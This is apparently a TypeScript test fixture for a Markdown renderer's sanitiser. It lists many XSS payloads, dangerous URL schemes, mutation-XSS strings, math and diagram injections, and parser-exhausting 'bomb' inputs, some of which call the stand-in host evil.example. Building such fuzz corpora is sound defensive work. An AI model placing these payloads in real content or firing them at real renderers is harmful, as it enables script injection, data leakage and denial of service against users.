// Markdown written to break out of the page: every payload in every position Markdown has.
// Here, beside the renderer it tests. Never imported by the app. Must not know the DOM.

const HTML = [
  "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 2x">', "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", '<svg><use href="https://evil.example/x.svg#a"/></svg>', "<svg><animate onbegin=alert(1) attributeName=x>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=https://evil.example/a.swf></object>", "<embed src=https://evil.example/a>", "<style>@import 'https://evil.example/a.css';</style>",
  '<div style="background:url(https://evil.example/a)">x</div>', "<link rel=stylesheet href=https://evil.example/a.css>", "<link rel=prefetch href=https://evil.example>", '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=a><button>send</button></form>', "<input autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>", "<details open ontoggle=alert(1)>", "<video src=https://evil.example/a onerror=alert(1)>",
  "<audio src=https://evil.example/a>", "<video poster=https://evil.example/a.png>", "<math><mtext></p><img src onerror=alert(1)></mtext></math>", "<math href=javascript:alert(1)>CLICK</math>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<!--><img src=x onerror=alert(1)>-->", "<!-- x --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
  "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a ping=https://evil.example href=#>x</a>", "<table background=https://evil.example/a><tr><td>x", "<body onload=alert(1)>", "<html onclick=alert(1)>", "<x onclick=alert(1)>x</x>", "<p onmouseover=alert(1)>x</p>",
  '<a class="answer-link" data-href="javascript:alert(1)">x</a>', '<div class="code-block"><button class="code-copy">x</button></div>', "<portal src=https://evil.example>", "<frameset onload=alert(1)>", "<marquee onstart=alert(1)>", "<isindex action=javascript:alert(1)>", "<slot onslotchange=alert(1)>", "<select><style></select><img src=x onerror=alert(1)></style>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<script", "<img src=x onerror=alert(1)", "</script><script>alert(1)</script>", "<a href=\"https://a.example\" onclick=\"alert(1)", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<br onclick=alert(1)>", "<br/><script>alert(1)</script>", "<input type=checkbox disabled onclick=alert(1)>",
]

export const RAW_HTML = HTML

const URLS = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "javascript&#58;alert(1)", "&#106;&#97;&#118;ascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "%6Aavascript:alert(1)",
  "\u0001javascript:alert(1)", "javascript://example.org/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://evil.example/a", "about:blank", "view-source:https://evil.example",
  "tauri://localhost", "asset://localhost/etc/passwd", "ipc://localhost/delete_all_chats", "http://ipc.localhost/delete_all_chats", "//evil.example/a", "/etc/passwd", "\\\\evil.example\\share", "#a", "?a", "chrome://settings", "x-apple.systempreferences:", "ms-msdt:/id", "smb://evil.example/a", "ftp://evil.example/a", "ssh://evil.example", "tel:123", "hearth://open",
  "https://user:pass@evil.example/", "https://apple.com@evil.example/", "https://evil.example/\" onmouseover=\"alert(1)", "https://evil.example/'onmouseover='alert(1)", "https://evil.example/><script>alert(1)</script>", "https://\u202egpj.elpmaxe/", "https://exa\u200bmple.org/", "https://ex\u00admple.org/", "http:///evil", "https:evil.example", "http://[::1", "jav&#x0A;ascript:alert(1)", "feed:javascript:alert(1)", "https://evil.example/" + "a".repeat(5000),
]

const POSITIONS_TEXT = [
  (text: string) => text,
  (text: string) => `A paragraph with ${text} in it.`,
  (text: string) => `# ${text}`,
  (text: string) => `- ${text}\n- b`,
  (text: string) => `> ${text}`,
  (text: string) => `| a | b |\n|---|---|\n| ${text.replace(/\|/g, "")} | c |`,
  (text: string) => `\`\`\`html\n${text}\n\`\`\``,
  (text: string) => `\`\`\`${text}\nx\n\`\`\``,
  (text: string) => `\`${text}\``,
  (text: string) => `**${text}**`,
  (text: string) => `[${text}](https://example.org)`,
  (text: string) => `[x](https://example.org "${text.replace(/"/g, "&quot;")}")`,
  (text: string) => `![${text}](https://example.org/a.png)`,
  (text: string) => `[x]: https://example.org '${text}'\n\n[x]`,
  (text: string) => `$$\n${text}\n$$`,
  (text: string) => `\\(${text}\\)`,
]

const POSITIONS_URL = [
  (url: string) => `[click](${url})`,
  (url: string) => `[click](<${url}>)`,
  (url: string) => `[click](${url} "title")`,
  (url: string) => `![pic](${url})`,
  (url: string) => `![](${url})`,
  (url: string) => `[![pic](${url})](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => url,
  (url: string) => `[click][r]\n\n[r]: ${url}`,
  (url: string) => `[click][r]\n\n[r]: <${url}> 'title'`,
  (url: string) => `| a |\n|---|\n| [click](${url}) |`,
  (url: string) => `> - [click](${url})`,
]

const OTHERS = [
  "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]-->B; click A href \"javascript:alert(1)\"\n```", "~~~js\" onclick=\"alert(1)\nx\n~~~", "```\"><script>alert(1)</script>\nx\n```",
  "\\(\\href{javascript:alert(1)}{x}\\)", "$$\\href{https://evil.example}{x}$$", "$$\\includegraphics{https://evil.example/a.png}$$", "$$\\url{javascript:alert(1)}$$", "$$\\htmlStyle{background:url(https://evil.example)}{x}$$", "$$\\htmlData{a=b}{x}$$", "$$\\htmlClass{answer-link}{x}$$", "$$\\htmlId{app}{x}$$",
  "$$\\def\\a{\\a\\a}\\a$$", "$$\\newcommand\\x{\\x}\\x$$", "$$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}}}$$", "$$\\rule{100000em}{100000em}$$", "$$\\color{red;background:url(https://evil.example)}x$$", "$$</span><script>alert(1)</script>$$", "\\[\\text{<img src=x onerror=alert(1)>}\\]", "$$\\sqrt{x}$$ and \\(\\overbrace{abc}\\)",
  "[x](javascript:alert(1)\n)", "[a]: javascript:alert(1)\n[a]", "[a](\njavascript:alert(1))", "[x](https://a.example)<script>", "[`x`](javascript:alert(1))", "[x]( javascript:alert(1) )", "[x](<javascript:alert(1)>)", "![x](x){onerror=alert(1)}", "[x](x){: onclick=alert(1)}", "[[x](javascript:a)](javascript:b)", "![[x](javascript:a)](javascript:b)",
  "http://a.example/<script>alert(1)</script>", "www.evil.example/\"onclick=alert(1)", "mailto:a@b.example?body=<script>", "a@b.example\"onclick=alert(1)", "[x](mailto:a@b.example)", "<https://a.example/\"onclick=\"alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>", "\u0000<script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "\u202e<script>alert(1)</script>", "<\u0000script>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>",
  "- [x] <input type=image src=https://evil.example onerror=alert(1)>", "1. <script>alert(1)</script>\n2. ```\n   <script>", "[^1]\n\n[^1]: <script>alert(1)</script>", "a | <script>\n--|--\nb | alert(1)</script>", "***<script>***alert(1)***</script>***", "<a<b>c</b> onclick=alert(1)>", "<div>\n\n<script>alert(1)</script>\n\n</div>", "# <a name=\"x\" onclick=alert(1)>", "`<script>`<script>alert(1)</script>", "````\n```\n<script>\n````\n<script>alert(1)</script>",
]

/** Sizes that make a careless parser slow or overflow its stack. */
export const BOMBS: Record<string, string> = {
  "10,000 quotes": ">".repeat(10_000) + " x",
  "10,000 quotes with spaces": "> ".repeat(10_000) + "x",
  "10,000 brackets": "[".repeat(10_000) + "x",
  "10,000 bracket pairs": "[".repeat(10_000) + "x" + "](a)".repeat(10_000),
  "10,000 pictures": "![".repeat(10_000) + "x",
  "10,000 stars": "*".repeat(10_000) + "x" + "*".repeat(10_000),
  "10,000 open emphases": "*a **b ".repeat(5000),
  "10,000 underscores": "_a ".repeat(10_000),
  "10,000 tildes": "~".repeat(10_000) + "x",
  "10,000 back ticks": "`".repeat(10_000) + "x",
  "odd back ticks": Array.from({ length: 300 }, (_, index) => "`".repeat(index + 1)).join(" "),
  "10,000 open tags": "<div>".repeat(10_000),
  "10,000 comments": "<!-- ".repeat(10_000),
  "nested lists": Array.from({ length: 500 }, (_, index) => " ".repeat(index * 2) + "- x").join("\n"),
  "list on one line": "- ".repeat(5000) + "x",
  "numbers on one line": "1. ".repeat(5000) + "x",
  "huge table": `|${" a |".repeat(60)}\n|${"---|".repeat(60)}\n${`|${" b |".repeat(60)}\n`.repeat(400)}`,
  "wide table": `|${" a |".repeat(4000)}\n|${"---|".repeat(4000)}\n|${" b |".repeat(4000)}\n`,
  "10,000 formulas": "\\(x".repeat(10_000),
  "10,000 display formulas": "$$".repeat(10_001),
  "one long word": "a".repeat(200_000),
  "many references": Array.from({ length: 2000 }, (_, index) => `[r${index}]: https://example.org/${index}`).join("\n"),
  "10,000 escapes": "\\*".repeat(10_000),
  "10,000 entities": "&amp;".repeat(10_000),
  "10,000 addresses": "https://a.example/ ".repeat(3000),
  "10,000 at signs": "a@".repeat(10_000),
  "setext": "a\n".repeat(5000) + "===",
  "spaces": " ".repeat(50_000) + "x",
  "blank quotes": ">\n".repeat(10_000),
  "link titles": '[a](b "'.repeat(3000),
}

/** Every payload in every position. */
export function hostileDocuments(): string[] {
  return [
    ...HTML.flatMap((payload) => POSITIONS_TEXT.map((place) => place(payload))),
    ...URLS.flatMap((url) => POSITIONS_URL.map((place) => place(url))),
    ...OTHERS,
    ...OTHERS.map((text) => `> ${text.replace(/\n/g, "\n> ")}`),
  ]
}

export const PAYLOADS = HTML.length + URLS.length + OTHERS.length + Object.keys(BOMBS).length
